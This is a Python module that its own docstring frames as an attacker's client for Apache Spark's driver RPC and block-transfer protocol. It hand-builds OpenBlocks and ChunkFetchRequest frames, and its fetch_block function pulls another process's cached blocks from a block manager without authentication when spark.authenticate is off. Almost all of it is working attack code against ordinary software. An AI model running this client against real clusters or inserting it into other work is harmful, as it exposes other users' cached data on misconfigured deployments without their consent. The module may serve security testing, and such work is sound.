"""A client of Spark's own network protocol (its driver RPC and block transfer ports), as an attacker writes one.

Spark's transport (common/network-common, ``MessageEncoder``): a frame is its length (int64, itself
included), a message type (one byte) and the message. An ``RpcRequest`` (3) carries a request id (int64)
and its body's length (int32); the answer is an ``RpcResponse`` (4: id, length, body) or an ``RpcFailure``
(5: id, length-prefixed error text). A block manager opens blocks for fetching with the body
``OpenBlocks`` (``BlockTransferMessage`` 0: app id, executor id, block ids, each an int32 length and
UTF-8) and answers a ``StreamHandle`` (3: stream id int64, chunk count int32); a ``ChunkFetchRequest``
(0: stream id, chunk index) then brings the block's bytes in a ``ChunkFetchSuccess`` (1). None of this
asks for Java serialization, so a few lines of Python can fetch another process's cached rows, unless the
server asks for authentication first (``spark.authenticate``).
"""

from __future__ import annotations

import socket
import struct

RPC_REQUEST, RPC_RESPONSE, RPC_FAILURE = 3, 4, 5
CHUNK_FETCH_REQUEST, CHUNK_FETCH_SUCCESS, CHUNK_FETCH_FAILURE = 0, 1, 2
OPEN_BLOCKS, STREAM_HANDLE = 0, 3


def _string(text: str) -> bytes:
    data = text.encode()
    return struct.pack(">i", len(data)) + data


def open_blocks(app_id: str, exec_id: str, block_ids: list[str]) -> bytes:
    """The body of an ``OpenBlocks`` request."""
    return (bytes([OPEN_BLOCKS]) + _string(app_id) + _string(exec_id) + struct.pack(">i", len(block_ids))
            + b"".join(map(_string, block_ids)))


def _frame(kind: int, header: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">q", 8 + 1 + len(header) + len(body)) + bytes([kind]) + header + body


def _read(sock: socket.socket) -> tuple[int, bytes]:
    """One frame: its message type and the rest; (-1, b"") when the server closed the connection."""
    head = _exactly(sock, 9)
    if len(head) < 9:
        return -1, b""
    length, kind = struct.unpack(">qB", head)
    return kind, _exactly(sock, length - 9)


def _exactly(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        part = sock.recv(n - len(data))
        if not part:
            break
        data += part
    return data


def rpc(sock: socket.socket, body: bytes, request_id: int = 1) -> tuple[str, bytes]:
    """Send an ``RpcRequest``; ``("response", body)``, ``("failure", error text)`` or ``("closed", b"")``."""
    sock.sendall(_frame(RPC_REQUEST, struct.pack(">qi", request_id, len(body)), body))
    kind, rest = _read(sock)
    if kind == RPC_RESPONSE:
        return "response", rest[12:]
    if kind == RPC_FAILURE:
        (length,) = struct.unpack(">i", rest[8:12])
        return "failure", rest[12:12 + length]
    return "closed", b""


def fetch_block(host: str, port: int, block_id: str, timeout: float = 20) -> tuple[str, bytes]:
    """Ask the block manager at ``host:port`` for ``block_id``, unauthenticated: ``("block", its bytes)``,
    or what refused it (``("failure", Spark's error text)``, ``("closed", b"")``)."""
    with socket.create_connection((host, port), timeout=timeout) as sock:
        outcome, body = rpc(sock, open_blocks("app", "driver", [block_id]))
        if outcome != "response":
            return outcome, body
        kind, = body[:1]
        if kind != STREAM_HANDLE:
            return "unexpected", body
        stream_id, chunks = struct.unpack(">qi", body[1:13])
        sock.sendall(_frame(CHUNK_FETCH_REQUEST, struct.pack(">qi", stream_id, 0)))
        kind, rest = _read(sock)
        if kind == CHUNK_FETCH_SUCCESS:
            return "block", rest[12:]
        return ("failure" if kind == CHUNK_FETCH_FAILURE else "closed"), rest[12:]
